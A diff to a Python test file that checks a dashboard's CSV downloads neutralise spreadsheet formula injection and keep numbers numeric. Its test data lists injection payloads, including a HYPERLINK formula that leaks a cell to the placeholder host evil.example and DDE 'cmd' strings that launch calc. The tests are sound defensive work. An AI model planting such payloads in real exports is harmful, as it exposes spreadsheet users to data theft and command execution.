@@ -1,5 +1,6 @@
 """CSV downloads: each table's frame holds the figures the page shows, and every chart can save a PNG."""
 
+import csv
 import io
 
 import pandas as pd
@@ -11,7 +12,7 @@ from core.simulator.batching import SWEEP_BATCHES
 from labs.batching import BatchingLab
 from labs.pool.lab import PoolLab
 from labs.reality.lab import RealityLab
-from labs.widgets.exports import batch_sweep_frame, cases_frame, csv_button
+from labs.widgets.exports import batch_sweep_frame, cases_frame, csv_button, csv_text
 
 
 def test_csv_button_writes_what_pandas_reads_back():
@@ -79,3 +80,32 @@ def test_a_download_carries_rounded_figures():
 
     assert rounded([1e-300, 0.0, float("inf"), -2.34567])[3] == -2.346
     assert rounded([1e-300])[0] == 1e-300
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' -c calc'!A0.json",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+]
+
+
+def test_every_text_cell_of_a_download_is_inert():
+    """A text cell or column name opening as a formula is written with a leading quote."""
+    frame = pd.DataFrame({"model": HOSTILE, "ttft_s": [0.1, -0.2, 3.0, 4.0, 5.0, 6.0]})
+    frame["=name"] = "plain"
+    rows = list(csv.reader(io.StringIO(csv_text(frame))))
+    cells = [cell for row in rows for cell in row]
+    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
+    assert "'=name" in rows[0]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+
+
+def test_numbers_stay_numbers_in_a_download():
+    """Negative and positive numbers are written as numbers, not quoted text."""
+    frame = pd.DataFrame({"change": [-3.5, 2.0], "label": ["a", "b"]})
+    back = pd.read_csv(io.StringIO(csv_text(frame)))
+    assert_allclose(back["change"], [-3.5, 2.0])
+    assert back["change"].dtype.kind == "f"
